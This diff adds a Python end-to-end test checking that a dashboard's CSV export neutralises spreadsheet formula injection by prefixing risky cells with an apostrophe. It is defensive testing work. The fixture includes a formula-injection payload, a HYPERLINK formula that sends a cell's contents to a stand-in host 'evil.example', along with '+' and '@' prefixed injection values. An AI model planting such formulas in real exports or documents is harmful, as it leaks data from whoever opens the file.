@@ -476,3 +476,43 @@ def test_the_page_never_sends_the_key_in_a_url(dash: LiveServer, tab: Tab) -> No
     # Live updates travel with a stream token instead.
     with httpx.Client(base_url=dash.url) as client:
         assert client.get("/").headers["content-security-policy"].startswith("default-src 'self'")
+
+
+def test_downloaded_csv_cells_never_run_as_formulas(dash: LiveServer, tab: Tab) -> None:
+    """Comment text and ids come from anyone: a downloaded cell that a spreadsheet would
+    run as a formula starts with ``'``, as in the server's CSV; numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    content = f"+dash-formula-{new_id('c')}"
+    sent = dash.post_events(
+        dash.keys["acme"].ingest,
+        [
+            event(
+                influencer_id="dash-c",
+                platform="x",
+                content_id=content,
+                metric="comments",
+                text=formula,
+                tags=["@everyone"],
+                ts=rfc3339(utc_now() - dt.timedelta(minutes=1)),
+            )
+        ],
+    )
+    assert sent.json()["accepted"] == 1
+    sign_in(tab, dash)
+    expect(tab.page.locator('table[data-table="trending"]')).to_contain_text(content)
+
+    got = _download(tab, "trending")
+
+    assert got[0] == [
+        "content_id",
+        "interaction_count",
+        "total_engagement",
+        "latest_interaction",
+        "sample_text",
+        "common_tags",
+    ]
+    row = next(r for r in got[1:] if r[0].endswith(content))
+    assert row[0] == "'" + content
+    assert row[1:3] == ["1", "1"]
+    assert row[4:] == ["'" + formula, "'@everyone"]
+    assert tab.errors == []
